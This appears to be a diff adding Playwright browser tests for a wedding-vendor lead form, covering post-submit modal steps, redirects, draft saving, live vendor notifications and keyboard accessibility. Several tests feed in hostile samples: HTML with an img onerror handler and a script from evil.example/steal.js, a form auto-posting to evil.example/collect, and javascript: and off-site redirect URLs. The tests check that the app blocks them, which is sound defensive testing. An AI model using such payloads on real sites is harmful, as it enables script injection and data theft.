@@ -139,3 +139,254 @@ describe('the lead form in Chromium', () => {
     await context.close();
   });
 });
+
+/** Makes every lead answer carry this nextStep (the stand-in fills the lead's ids). */
+async function forceNextStep(page: Page, step: { type: string; html?: string; redirect_url?: string }) {
+  await page.evaluate((s) => window.mockBackend?.nextStep(s as never), step);
+}
+
+/** A valid lead sent from the page, its nextStep forced first when given. */
+async function sendLeadWith(step?: { type: string; html?: string; redirect_url?: string }) {
+  const opened = await leadPage();
+  if (step) await forceNextStep(opened.page, step);
+  await fillValidLead(opened.form);
+  await submit(opened.form);
+  return opened;
+}
+
+const HOSTILE_HTML =
+  '<h2>Message sent!</h2><p>Thanks.</p><img src="x" onerror="window.__pwned = 1"><script src="https://evil.example/steal.js"></script><script>window.__inline = 1</script>';
+
+describe('each nextStep type of spec §4, driven from the stand-in', () => {
+  it('multi_lead_modal: more vendors, pre-checked, one message; then the cross-sell modal', async () => {
+    const { context, page, errors } = await sendLeadWith();
+    const dialog = page.getByRole('dialog', { name: 'Your message was sent to Rosewood Estate' });
+    await dialog.waitFor();
+    const picks = dialog.getByRole('checkbox');
+    expect(await picks.count()).toBeGreaterThan(0);
+    for (const pick of await picks.all()) expect(await pick.isChecked()).toBe(true);
+    expect(await axeViolations(page)).toEqual([]);
+    await dialog.getByRole('button', { name: 'Send messages' }).click();
+    await page.getByRole('dialog', { name: 'Messages sent!' }).waitFor();
+    expect(errors).toEqual([]);
+    await context.close();
+  });
+
+  it('multi_lead_promo_modal and multi_lead_event_modal open the same multilead modal', async () => {
+    for (const type of ['multi_lead_promo_modal', 'multi_lead_event_modal']) {
+      const html = '<section><h2>More deals like this</h2><form><input type="hidden" name="categoryId" value="1"><label><input type="checkbox" name="vendorsEscaparateId[]" value="2001" checked> Other venue</label><label for="c">Message</label><textarea id="c" name="Comentario">We would love to know more about you.</textarea><button type="submit">Send messages</button></form></section>';
+      const { context, page } = await sendLeadWith({ type, html });
+      await page.getByRole('dialog', { name: 'More deals like this' }).getByRole('checkbox', { name: 'Other venue' }).waitFor();
+      await context.close();
+    }
+  });
+
+  it('html steps show their modal, and an embedded form that asks to be sent is sent to this site only', async () => {
+    for (const type of ['redirect_to_venta_cruzada_after_multi_lead', 'multi_lead_no_results', 'microsite_thank_you_page']) {
+      const { context, page } = await sendLeadWith({ type, html: `<h2>Step ${type}</h2><p>All done.</p>` });
+      await page.getByRole('dialog', { name: `Step ${type}` }).getByText('All done.').waitFor();
+      await context.close();
+    }
+    for (const type of ['redirect_to_contactar_show_after_cross_sell', 'redirect_to_url_after_lead']) {
+      const html = '<h2>One moment</h2><form data-submit-on-show action="/multi-category-lead" method="post"><input type="hidden" name="originCategoryId" value="1"></form>';
+      const { context, page } = await sendLeadWith({ type, html });
+      await page.waitForURL(/\/multi-category-lead/);
+      await context.close();
+    }
+    const foreign = '<h2>One moment</h2><form data-submit-on-show action="https://evil.example/collect" method="post"><input type="hidden" name="x" value="1"></form>';
+    const { context, page } = await sendLeadWith({ type: 'redirect_to_url_after_lead', html: foreign });
+    const evil: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) evil.push(request.url());
+    });
+    await page.getByRole('dialog', { name: 'One moment' }).waitFor();
+    expect(page.url()).toContain('/emp-Form.php');
+    expect(evil).toEqual([]);
+    await context.close();
+  });
+
+  it('promo_modal loads the coupon page in the modal', async () => {
+    const { context, page } = await sendLeadWith({ type: 'promo_modal' });
+    await page.getByRole('dialog', { name: 'Your coupon from Rosewood Estate' }).getByText(/^Code:/).waitFor();
+    await context.close();
+  });
+
+  it('redirect_to_url goes to a same-origin URL, to / when absent, never to a hostile one', async () => {
+    const same = await sendLeadWith({ type: 'redirect_to_url', redirect_url: '/tools/Vendors?from=lead' });
+    await same.page.waitForURL(`${env.url}tools/Vendors?from=lead`);
+    await same.context.close();
+    const absent = await sendLeadWith({ type: 'redirect_to_url' });
+    await absent.page.waitForURL(env.url);
+    await absent.context.close();
+    for (const hostile of ['javascript:window.__pwned=1', '//evil.example/', 'https://site.example.evil.example/']) {
+      const { context, page } = await sendLeadWith({ type: 'redirect_to_url', redirect_url: hostile });
+      await page.waitForURL(env.url);
+      expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
+      await context.close();
+    }
+  });
+
+  it('inserted HTML with <img onerror> and scripts runs nothing', async () => {
+    const { context, page } = await leadPage();
+    const evil: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) evil.push(request.url());
+    });
+    await forceNextStep(page, { type: 'microsite_thank_you_page', html: HOSTILE_HTML });
+    await fillValidLead(page.locator('form.lead-form'));
+    await submit(page.locator('form.lead-form'));
+    await page.getByRole('dialog', { name: 'Message sent!' }).getByText('Thanks.').waitFor();
+    await page.waitForTimeout(300);
+    expect(await page.evaluate(() => [(window as { __pwned?: number }).__pwned, (window as { __inline?: number }).__inline])).toEqual([undefined, undefined]);
+    expect(evil).toEqual([]);
+    await context.close();
+  });
+});
+
+describe('the lead form keeps what was typed', () => {
+  it('keeps the message through a network error and a 500, sends it once back, and after a reload', async () => {
+    const { context, page, form, errors } = await leadPage();
+    await fillValidLead(form);
+    const message = 'Could you send us your prices for a Sunday in June, please?';
+    await form.getByLabel('Message').fill(message);
+    await page.reload();
+    await page.waitForSelector('form.lead-form[data-widget-state="mounted"]');
+    await expect(page.getByLabel('Message').inputValue()).resolves.toBe(message);
+
+    await fillValidLead(page.locator('form.lead-form'));
+    await page.getByLabel('Message').fill(message);
+    for (const scenario of ['offline', 'server-error'] as const) {
+      await page.evaluate((s) => window.mockBackend?.scenario(s), scenario);
+      await submit(page.locator('form.lead-form'));
+      await page.locator('form.lead-form [role="alert"]').filter({ hasText: /./ }).first().waitFor();
+      await expect(page.getByLabel('Message').inputValue()).resolves.toBe(message);
+    }
+    await page.evaluate(() => window.mockBackend?.scenario('normal'));
+    await submit(page.locator('form.lead-form'));
+    await page.getByText('Your message has been sent').waitFor();
+    // Sent: the draft is gone.
+    await page.reload();
+    await page.waitForSelector('form.lead-form[data-widget-state="mounted"]');
+    await expect(page.getByLabel('Message').inputValue()).resolves.not.toBe(message);
+    expect(errors.filter((e) => !/Failed to load resource|500/.test(e))).toEqual([]);
+    await context.close();
+  });
+});
+
+/** Pushes a harmless event until `subscribers` sockets listen on the channel (pusher-js subscribes after the session check). */
+async function waitForSubscribers(page: Page, channel: string, subscribers: number) {
+  await page.waitForFunction(
+    async ({ channel, subscribers }) => ((await window.mockBackend?.push(channel, 'update', {})) ?? 0) >= subscribers,
+    { channel, subscribers },
+    { polling: 200, timeout: 15000 },
+  );
+}
+
+/** Tabs until the focused element matches, as a keyboard user would. */
+async function tabUntil(page: Page, test: string, max = 15) {
+  for (let i = 0; i < max; i++) {
+    await page.keyboard.press('Tab');
+    if (await page.evaluate((selector) => document.activeElement?.matches(selector) ?? false, test)) return;
+  }
+  throw new Error(`Tab never reached ${test}`);
+}
+
+describe('the vendor gets the lead live', () => {
+  it('in another browser context: the requests list, the notification and the inbox badge, without a reload', async () => {
+    const vendor = await env.browser.newContext();
+    const vendorPage = await vendor.newPage();
+    const vendorErrors = collectErrors(vendorPage);
+    await vendorPage.goto(`${env.url}home`);
+    await vendorPage.evaluate(() => window.mockBackend?.reset());
+    await logIn(vendorPage, env.url, 'vendor@example.com', 'Vendor2026!');
+    await vendorPage.goto(`${env.url}inbox`);
+    await waitForSubscribers(vendorPage, `private-vendor-${VENDOR_ID}`, 1);
+    const before = await vendorPage.evaluate(async () => ((await (await fetch('/inbox/unread-count')).json()) as { numUnread: number }).numUnread);
+    await vendorPage.waitForFunction((n) => {
+      const label = document.querySelector('header [aria-label^="Inbox"]')?.getAttribute('aria-label') ?? '';
+      return Number(/(\d+) unread/.exec(label)?.[1] ?? 0) === n;
+    }, before);
+
+    const couple = await env.browser.newContext();
+    const page = await couple.newPage();
+    await page.goto(`${env.url}emp-Form.php?id_empresa=${VENDOR_ID}`);
+    await page.waitForSelector('form.lead-form[data-widget-state="mounted"]');
+    await fillValidLead(page.locator('form.lead-form'), 'casey.lane@example.com');
+    await page.getByLabel('Name').fill('Casey Lane');
+    await submit(page.locator('form.lead-form'));
+    await page.getByText('Your message has been sent').waitFor();
+
+    // Announced politely, listed first, counted: all on the page the vendor already had open.
+    await vendorPage.getByRole('status').filter({ hasText: 'Casey Lane sent you a request' }).waitFor();
+    const first = vendorPage.getByRole('navigation', { name: 'Conversations' }).getByRole('listitem').first();
+    await expect(first.textContent()).resolves.toContain('Casey Lane sent you a request');
+    await vendorPage.waitForFunction((n) => {
+      const label = document.querySelector('header [aria-label^="Inbox"]')?.getAttribute('aria-label') ?? '';
+      return Number(/(\d+) unread/.exec(label)?.[1] ?? 0) > n;
+    }, before);
+    expect(vendorErrors).toEqual([]);
+    await couple.close();
+    await vendor.close();
+  });
+});
+
+describe('a known e-mail and the keyboard', () => {
+  it('hides role, region and consent for an address the site knows, and sends without them', async () => {
+    const { context, page, form } = await leadPage();
+    await form.getByLabel('Email').fill('couple@example.com');
+    await form.getByLabel('Email').blur();
+    await form.getByRole('group', { name: 'Your role in the wedding' }).waitFor({ state: 'hidden' });
+    await form.getByLabel('Region of the wedding').waitFor({ state: 'hidden' });
+    await form.getByRole('checkbox', { name: /^I accept/ }).waitFor({ state: 'hidden' });
+    await form.getByLabel('Name').fill('Alex Morgan');
+    await form.getByLabel('Estimated guest count').fill('80');
+    const sending = page.waitForRequest((request) => request.url().includes(RUN_PATH));
+    await submit(form);
+    const sent = new URLSearchParams((await sending).postData() ?? '');
+    expect([sent.get('Mail'), sent.has('role'), sent.has('region'), sent.has('legal')]).toEqual(['couple@example.com', false, false, false]);
+    await page.getByText('Your message has been sent').waitFor();
+    // An address the site does not know asks for them again.
+    const again = await leadPage();
+    await again.form.getByLabel('Email').fill('someone.new@example.com');
+    await again.form.getByLabel('Email').blur();
+    await again.form.getByRole('group', { name: 'Your role in the wedding' }).waitFor();
+    expect(await again.form.getByRole('checkbox', { name: /^I accept/ }).isVisible()).toBe(true);
+    await again.context.close();
+    await context.close();
+  });
+
+  it('is used by keyboard alone, with the errors announced and axe clean, then the modal it opens', async () => {
+    const { context, page, form, errors } = await leadPage();
+    await form.getByLabel('Name').focus();
+    await page.keyboard.press('Enter');
+    await form.getByText('Enter your full name.').first().waitFor();
+    expect(await axeViolations(page)).toEqual([]);
+    // The first problem has focus: type, then Tab through the form.
+    await page.keyboard.type('Jordan Blake');
+    await tabUntil(page, '[name="Mail"]');
+    await page.keyboard.type('jordan.keys@example.com');
+    await tabUntil(page, '[name="Telefono"]');
+    await page.keyboard.type('4155550199');
+    await tabUntil(page, '[name="Fecha"]');
+    await page.keyboard.type(isoDay(300).replace(/^(\d{4})-(\d{2})-(\d{2})$/, '$2$3$1'));
+    await tabUntil(page, '[name="Comensales"]');
+    await page.keyboard.type('120');
+    await tabUntil(page, '[name="role"]');
+    await page.keyboard.press('Space');
+    await tabUntil(page, '[name="legal"]');
+    await page.keyboard.press('Space');
+    await tabUntil(page, 'button[type="submit"]');
+    const sending = page.waitForRequest((request) => request.url().includes(RUN_PATH));
+    await page.keyboard.press('Enter');
+    const sent = new URLSearchParams((await sending).postData() ?? '');
+    expect([sent.get('Nombre'), sent.get('Fecha'), sent.get('Comensales'), sent.get('role'), sent.get('legal')]).toEqual(['Jordan Blake', isoDay(300), '120', '1', '1']);
+    await page.getByText('Your message has been sent').waitFor();
+    const dialog = page.getByRole('dialog', { name: 'Your message was sent to Rosewood Estate' });
+    await dialog.waitFor();
+    expect(await axeViolations(page)).toEqual([]);
+    await page.keyboard.press('Escape');
+    await dialog.waitFor({ state: 'hidden' });
+    expect(errors).toEqual([]);
+    await context.close();
+  });
+});
